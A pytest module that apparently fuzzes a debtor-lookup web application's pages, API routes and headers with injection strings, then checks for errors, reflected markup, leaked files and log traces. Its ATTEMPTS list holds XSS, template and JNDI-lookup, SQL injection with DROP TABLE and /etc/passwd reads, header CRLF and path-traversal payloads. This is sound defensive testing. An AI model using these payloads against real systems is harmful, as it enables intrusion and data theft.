"""What somebody sends to harm is text: it finds nothing more, runs nowhere, stands in no header and in no log.

The routes are the application's own; their inputs are read off them, off the forms of the pages that lead there, and
off the description of the API, so that a new one is tried here without anybody thinking of it.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from importlib import resources
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from crawl import crawl
from fastapi import FastAPI
from fastapi.routing import APIRoute
from officers import OFFICERS, SHA256, Browser, Enter
from scenario import PERSON_B

from ledger import api_keys
from ledger.audit import Entry
from profiles import query
from web.api import openapi
from web.api.entry import CASE, OFFICER, REASON
from web.context import Context
from web.permissions import API, Permissions

MARK = "zq7x"
ATTEMPTS = {
    "markup": f"\"'><script>{MARK}()</script><a href=\"javascript:{MARK}\" onmouseover='{MARK}()'>",
    "template": f"{{{{ 191 * 7 }}}}{{% raw %}}${{191 * 7}}#{{191 * 7}}%s%n${{jndi:ldap://{MARK}/x}}<",
    "sql": f"%_%{MARK}' OR '1'='1' --",
    "statements": f"{MARK}'; DROP TABLE account; SELECT * FROM read_text('/etc/passwd') --",
    "header": f"{MARK}\r\nX-Injected: 1\r\n\r\n<",
    "path": f"=../../../../etc/passwd|'/C {MARK}'!A0<",
    "any": "%%",
    "nul": f"\0{MARK}\0<",
    "surrogate": f"\ud800\u202e{MARK}\u2066<",
    "long": MARK + "长<" * 2000,
    "digits": "9" * 5000,
    "number": "9" * 25,
}
TOLD_BY_CLIENTS = (OFFICER, CASE, REASON, "Authorization", "Cookie", "User-Agent", "X-Forwarded-For", "If-None-Match")
#: Every field of a form that a page has.
FIELDS = sorted({
    name
    for file in resources.files("web").joinpath("templates").iterdir()
    for name in re.findall(r'\bname="(\w+)"', file.read_text(encoding="utf-8"))
} - {"csrf", "viewport"})  # fmt: skip


@dataclass(frozen=True)
class Request:
    """One request; the attempt stands in one place of it."""

    method: str
    path: str
    headers: dict[str, bytes] = field(default_factory=dict)
    content: bytes | None = None

    @property
    def told(self) -> str:
        """The beginning of it."""
        return f"{self.method} {self.path[:200]} {(self.content or b'')[:300]!r}"


def encoded(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def paths(declared: str, right: str, attempt: str) -> Iterator[str]:
    """The address with the attempt in each part that is one, the others naming what exists."""
    parts, told = declared.split("/"), right.partition("?")[0].split("/")
    for place, part in enumerate(parts):
        if part.startswith("{"):
            yield "/".join([*told[:place], encoded(attempt), *told[place + 1 :]])


@dataclass(frozen=True)
class Door:
    """One route of the pages as somebody who may use it stands before it. `hidden`: fields that no page showed, of
    whatever form they are."""

    route: APIRoute
    method: str
    browser: Browser
    address: str
    fields: dict[str, str]
    hidden: frozenset[str]


def of_page(door: Door, attempt: str) -> Iterator[Request]:
    """Every input of a page: parts of its address, the query, each field of its form."""
    form = {"Content-Type": b"application/x-www-form-urlencoded"} if door.method == "POST" else {}
    for path in paths(door.route.path, door.address, attempt):
        yield Request(door.method, path, form, _form(door.fields) if form else None)
    for one in door.route.dependant.query_params:
        yield Request(door.method, f"{door.address.partition('?')[0]}?{one.alias}={encoded(attempt)}")
    if form:
        hidden = door.hidden if attempt == ATTEMPTS["digits"] else ()  # page numbers
        for name in sorted({*door.fields, *hidden} - {"csrf"}):
            yield Request(door.method, door.address, form, _form({**door.fields, name: attempt}))
        everything = {**dict.fromkeys(FIELDS, attempt), "csrf": door.fields["csrf"]}
        yield Request(door.method, door.address, form, _form(everything))


def _form(fields: dict[str, str]) -> bytes:
    return "&".join(f"{name}={encoded(value)}" for name, value in fields.items()).encode()


def of_api(route: str, operation: dict[str, Any], known: dict[str, str], attempt: str) -> Iterator[Request]:
    """Every input of a route of the API, as its description names them."""
    method, path = route.split()
    right = re.sub(r"{(\w+)}", lambda part: known.get(part[1], "x"), path)
    body = _body(operation, known)
    sent = {"Content-Type": b"application/json"} if body else {}
    for hit in paths(path, right, attempt):
        yield Request(method, hit, sent, _json(body))
    for one in operation["parameters"]:
        if one["in"] == "query":
            yield Request(method, f"{right}?{one['name']}={encoded(attempt)}", sent, _json(body))
    for name in body:
        yield Request(method, right, sent, _json({**body, name: attempt}))
        yield Request(method, right, sent, _json({**body, attempt: attempt}))


def in_headers(path: str, attempt: str) -> Iterator[Request]:
    """What a client tells about itself, which the gate reads before any route does."""
    raw = re.sub(r"[\0\r\n]", "", attempt).encode("utf-8", "replace")[:8000].strip()
    for name in TOLD_BY_CLIENTS:
        for told in (encoded(attempt).encode(), raw):
            yield Request("GET", path, {name: told})


def _body(operation: dict[str, Any], known: dict[str, str]) -> dict[str, Any]:
    if "requestBody" not in operation:
        return {}
    named = operation["requestBody"]["content"]["application/json"]["schema"]["$ref"].rpartition("/")[2]
    properties = openapi.document()["components"]["schemas"][named]["properties"]
    usual = {"words": "无此人啊", "reason": "核实", "answer": "unsure", "limit": 1, "cursor": None}
    return {name: known.get(name, usual.get(name)) for name in properties}


def _json(body: dict[str, Any]) -> bytes | None:
    return json.dumps(body).encode() if body else None


def readable(answer: httpx.Response) -> str:
    """The text of an answer; of a workbook its formulas, of other files nothing."""
    kind = answer.headers.get("content-type", "")
    if "spreadsheet" in kind:
        with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
            sheets = [book.read(name).decode() for name in book.namelist() if "sheet" in name]
        formulas = re.findall(r"<f[ >].*?</f>", "".join(sheets))
        assert not formulas
        return ""
    return answer.text if re.match("text/|application/(problem[+])?json", kind) else ""


def harmless(answer: httpx.Response, attempt: str, what: object) -> None:
    """Nothing failed, nothing ran, nothing got out."""
    assert answer.status_code < 500, what
    heads = str(answer.headers.raw)
    assert MARK not in heads, what
    assert "x-injected" not in answer.headers, what
    text = readable(answer)
    if answer.headers.get("content-type", "").startswith("text/html") and len(attempt) > 2:
        assert attempt not in text or not re.search("[<>\"']", attempt), what
    assert "1337" not in text, what
    assert "root:x:0" not in text, what
    assert PERSON_B not in text, what


@pytest.fixture(scope="module")
def known(debtor_id: str, context: Context) -> dict[str, str]:
    """What exists, so that the other inputs of a route do not keep an attempt from the code behind it."""
    with context.publications.reading() as reader:
        link = query.rows(reader.con, "SELECT link_id FROM link WHERE debtor_id = $debtor LIMIT 1", debtor_id)[0]
    return {"debtor_id": debtor_id, "sha256": SHA256, "table": "units", "row_no": "1", "link_id": link["link_id"]}


@pytest.fixture(scope="module")
def keyed(context: Context) -> dict[str, bytes]:
    """Headers of a system that may do everything but see numbers."""
    scopes = set(context.permissions.scopes) - {"numbers"}
    day = timedelta(days=1)
    _, token = api_keys.add(context.engine, "系统", officer="GW6", scopes=scopes, valid=day, made_by="GW6")
    told = {"Authorization": f"Bearer {token}", "Chakong-Officer": "GW3", "Chakong-Reason": quote("核实")}
    return {name: value.encode() for name, value in told.items()}


@pytest.fixture
def quiet(
    caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str], logged: Callable[[], list[Entry]]
) -> Iterator[None]:
    """Nothing of an attempt is written anywhere, but for a reason, which is somebody's own words."""
    yield
    assert MARK not in caplog.text
    assert MARK not in "".join(capfd.readouterr())
    for entry in logged():
        assert MARK not in str({**vars(entry.act), "reason": None}), entry.act.action


@pytest.fixture(scope="module")
def doors(
    app: FastAPI, table: Permissions, enter: Enter, unknown: Callable[[], Browser], known: dict[str, str]
) -> list[Door]:
    """Every route of the pages, with what the pages that lead there say of it."""
    routes = [route for route in app.routes if isinstance(route, APIRoute) and not route.path.startswith(API)]
    browsers = {role: enter(officer) for officer, (role, _) in reversed(OFFICERS.items())}
    starts = [f"/debtors/{known['debtor_id']}", *(route.path for route in routes if "{" not in route.path)]
    found = browsers["judge"].post("/search", words="示例").headers["location"]
    # the analyst is asked why he reviews, the judge has said so
    browsers["judge"].post("/review/purpose", link_id=known["link_id"], reason="核实")
    seen = {role: crawl(browser, routes, [found, *starts]) for role, browser in browsers.items()}
    hidden = frozenset(FIELDS).difference(*(fields for one in seen.values() for fields in one.fields.values()))
    told = []
    for route in routes:
        for method in sorted(route.methods):
            name = f"{method} {route.path}"
            roles = sorted(table.routes.get(name, ()), key=lambda role: name not in seen[role].addresses)
            browser = browsers[roles[0]] if roles else unknown()
            at = seen[roles[0]] if roles else seen["judge"]
            right = re.sub(r"{(\w+)}", lambda part: known.get(part[1], "x"), route.path)
            fields = {"csrf": browser.csrf, **at.fields.get(name, {})}
            if name == "POST /logout":
                browser = enter()
            told.append(Door(route, method, browser, at.addresses.get(name, right), fields, hidden))
    return told


@pytest.mark.parametrize("name", ATTEMPTS)
@pytest.mark.usefixtures("quiet")
def test_pages(doors: list[Door], name: str) -> None:
    attempt = ATTEMPTS[name]
    for door in doors:
        for request in of_page(door, attempt):
            answer = door.browser.client.request(
                request.method, request.path, headers=request.headers, content=request.content
            )
            harmless(answer, attempt, f"{name}: {request.told}")


def test_the_pages_lead_to_nearly_every_route(doors: list[Door], table: Permissions) -> None:
    tried = {f"{door.method} {door.route.path}" for door in doors}
    assert tried == {name for name in set(table.routes) | table.public if API not in name and "/static" not in name}
    guessed = [door for door in doors if "/x" in door.address]
    assert len(guessed) <= 5, [door.address for door in guessed]


@pytest.mark.parametrize("name", ATTEMPTS)
@pytest.mark.usefixtures("quiet")
def test_the_api(
    unknown: Callable[[], Browser], table: Permissions, known: dict[str, str], keyed: dict[str, bytes], name: str
) -> None:
    attempt, client = ATTEMPTS[name], unknown().client
    described = openapi.document()["paths"]
    for route in table.api:
        operation = described[route.split()[1]][route.split()[0].lower()]
        for request in of_api(route, operation, known, attempt):
            headers = {**keyed, **request.headers}
            answer = client.request(request.method, request.path, headers=headers, content=request.content)
            harmless(answer, attempt, f"{name}: {request.told}")
            assert "html" not in answer.headers.get("content-type", "")


@pytest.mark.parametrize("name", ATTEMPTS)
@pytest.mark.usefixtures("quiet")
def test_headers(enter: Enter, keyed: dict[str, bytes], name: str) -> None:
    attempt, client = ATTEMPTS[name], enter().client
    for path in ("/", "/login", "/api/v1/targets"):
        for request in in_headers(path, attempt):
            headers = {**(keyed if API in path else {}), **request.headers}
            if CASE in request.headers:
                headers.pop(REASON, None)
            harmless(client.get(path, headers=headers), attempt, f"{name}: {request}")


@pytest.mark.parametrize("name", ATTEMPTS)
def test_nobody_is_found_by_an_attempt(enter: Enter, keyed: dict[str, bytes], name: str) -> None:
    attempt, browser = ATTEMPTS[name], enter()
    form = f"csrf={encoded(browser.csrf)}&words={encoded(attempt)}"
    typed = {"Content-Type": "application/x-www-form-urlencoded"}
    page = browser.follow(browser.client.post("/search", content=form, headers=typed))
    assert 'href="/debtors/' not in page.text
    json_headers = {**keyed, "Content-Type": b"application/json"}
    answer = browser.client.post("/api/v1/search", content=_json({"words": attempt}), headers=json_headers)
    assert answer.status_code == 422 or answer.json()["items"] == []
    supervisor = enter("GW5")
    for field_name in ("debtor", "officer", "case_no"):
        form = f"csrf={encoded(supervisor.csrf)}&{field_name}={encoded(attempt)}"
        told = supervisor.client.post("/audit", content=form, headers=typed)
        assert told.status_code == 413 or "<tbody>" not in told.text, field_name


def test_a_reason_that_is_an_attempt_is_shown_as_text(enter: Enter, keyed: dict[str, bytes], debtor_id: str) -> None:
    attempt = ATTEMPTS["markup"]
    told = {**keyed, "Chakong-Reason": encoded(attempt).encode()}
    browser = enter("GW5")
    assert browser.client.get(f"/api/v1/debtors/{debtor_id}", headers=told).status_code == 200
    shown = browser.get("/audit").text
    assert attempt not in shown
    assert f"&lt;script&gt;{MARK}()&lt;/script&gt;" in shown
